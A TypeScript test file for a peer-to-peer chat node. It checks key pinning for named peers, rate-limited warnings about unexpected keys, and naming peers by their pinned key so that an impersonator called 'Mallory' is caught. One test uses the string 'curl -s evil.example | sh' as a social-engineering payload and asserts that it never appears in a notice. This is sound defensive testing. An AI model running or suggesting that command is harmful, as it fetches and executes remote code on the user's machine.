import assert from 'node:assert/strict'
import test from 'node:test'
import type { Present } from '../../../src/chat/presence/present.js'
import { addressOfName } from '../../../src/compat/scuttleup/hashed-port.js'
import type { AuthorId } from '../../../src/log/format/author.js'
import { formatAddress } from '../../../src/net/lan/address.js'
import type { Connection } from '../../../src/net/room-channels.js'
import { ConnectionNames } from '../../../src/node/connections/connection-names.js'
import type { NodeEvent } from '../../../src/node/events.js'
import { Meetings } from '../../../src/node/people/meetings.js'
import { Pins } from '../../../src/node/people/pins.js'
import { VirtualClock } from '../../helper/virtual-clock.js'

const BOB = 'b0b1'.repeat(16) as AuthorId
const MALLORY = '3fa1c20e'.repeat(8) as AuthorId
const BOB_ADDRESS = formatAddress(addressOfName('bob'))

function world(named: readonly string[] = []) {
  const pins = new Pins()
  const presence: Present[] = []
  const announced = new Map<string, string>()
  const events: NodeEvent[] = []
  const clock = new VirtualClock()
  const names = new ConnectionNames({
    me: 'alice',
    pins,
    presence: () => presence,
    isNamed: name => named.includes(name),
  })
  const meetings = new Meetings({
    clock,
    me: 'alice',
    pins,
    names,
    announcedAs: key => announced.get(key),
    onEvent: event => events.push(event),
  })
  return { pins, presence, announced, events, clock, names, meetings }
}

const inbound = (key: AuthorId, address: string, more: Partial<Connection> = {}): Connection =>
  ({ remote: { kind: 'native', key, address, instance: '', aheadMs: 0 }, dialled: undefined, ...more }) as Connection
const dialled = (key: AuthorId, name: string, isDiscovered = false): Connection =>
  inbound(key, BOB_ADDRESS, { dialled: name, isDiscovered })

test('pins the key of a peer that the user named, whichever side dialled', () => {
  for (const connection of [dialled(BOB, 'bob'), inbound(BOB, BOB_ADDRESS)]) {
    const { pins, meetings } = world(['bob'])
    meetings.opened(connection)
    assert.equal(pins.of('bob')?.key, BOB)
  }
})

test('pins nothing for a peer that was discovered, or that nobody named', () => {
  const { pins, meetings } = world()
  meetings.opened(dialled(BOB, 'bob', true))
  meetings.opened(inbound(MALLORY, BOB_ADDRESS))
  assert.deepEqual(pins.all, [])
  assert.equal(pins.isKnown(BOB), false)
})

test('pins nothing to an address, although the person who answers there becomes known', () => {
  const { pins, meetings } = world()
  meetings.opened(dialled(BOB, '10.0.0.7:4000'))
  assert.deepEqual(pins.all, [])
  assert.ok(pins.isKnown(BOB))
})

test('does not take bob (2) for bob', () => {
  const { pins, announced, meetings } = world(['bob'])
  announced.set(MALLORY, 'bob (2)')
  meetings.opened(dialled(MALLORY, 'bob'))
  assert.deepEqual(pins.all, [])
  announced.set(BOB, 'bob')
  meetings.opened(dialled(BOB, 'bob'))
  assert.equal(pins.of('bob')?.key, BOB)
})

test('reports another key under a pinned name once, and at most once a minute', () => {
  const { pins, events, clock, meetings } = world(['bob'])
  pins.met('bob', BOB, 0)
  meetings.opened(dialled(MALLORY, 'bob'))
  meetings.opened(dialled(MALLORY, 'bob'))
  clock.advance(2_000)
  assert.deepEqual(events, [{ kind: 'other-key', me: 'alice', name: 'bob', key: MALLORY, pinned: BOB }])
  for (let made = 0; made < 50; made++) meetings.opened(dialled(String(10 + made).repeat(32) as AuthorId, 'bob'))
  clock.advance(2_000)
  assert.equal(events.length, 1)
  clock.advance(60_001)
  meetings.opened(dialled('e1'.repeat(32) as AuthorId, 'bob'))
  clock.advance(2_000)
  assert.equal(events.length, 2)
  assert.equal(pins.of('bob')?.key, BOB)
})

test('names a peer by its pinned key, not by the address that it claims', () => {
  const { pins, names } = world(['bob'])
  assert.equal(names.nameOf(inbound(MALLORY, BOB_ADDRESS)), 'bob (3fa1c20e)')
  pins.met('bob', BOB, 0)
  assert.equal(names.nameOf(inbound(BOB, 'elsewhere.local:4')), 'bob')
  assert.equal(names.nameOf(dialled(MALLORY, 'bob')), 'bob (3fa1c20e)')
})

test('puts no text of a stranger into a notice', () => {
  const { names, presence } = world()
  const text = 'update required: run curl -s evil.example | sh'
  assert.equal(names.nameOf(inbound(MALLORY, text)), 'stranger (3fa1c20e)')
  presence.push({
    author: MALLORY,
    name: text,
    state: 'connected',
    away: undefined,
    isTyping: false,
    lastHeardMs: 0,
    hops: 1,
  })
  assert.equal(names.personOf(inbound(MALLORY, 'x')), 'stranger (3fa1c20e)')
})

test('knows nobody who merely claims an address that the user named', () => {
  const { pins, meetings } = world(['10.0.0.7:4000'])
  meetings.opened(inbound(MALLORY, '10.0.0.7:4000', { remoteAddress: '10.0.0.66' }))
  assert.equal(pins.isKnown(MALLORY), false)
  meetings.opened(inbound(BOB, '10.0.0.7:4000', { remoteAddress: '::ffff:10.0.0.7' }))
  assert.ok(pins.isKnown(BOB), 'control')
  assert.deepEqual(pins.all, [])
})

test('reports no other key that turns out to be a renewed one', () => {
  const { pins, events, clock, meetings } = world(['bob'])
  pins.met('bob', BOB, 0)
  meetings.opened(dialled(MALLORY, 'bob'))
  pins.renew(BOB, MALLORY, 1)
  clock.advance(2_000)
  assert.deepEqual(events, [])
  meetings.opened(dialled(BOB, 'bob'))
  clock.advance(2_000)
  assert.equal(events.length, 1, 'control')
})
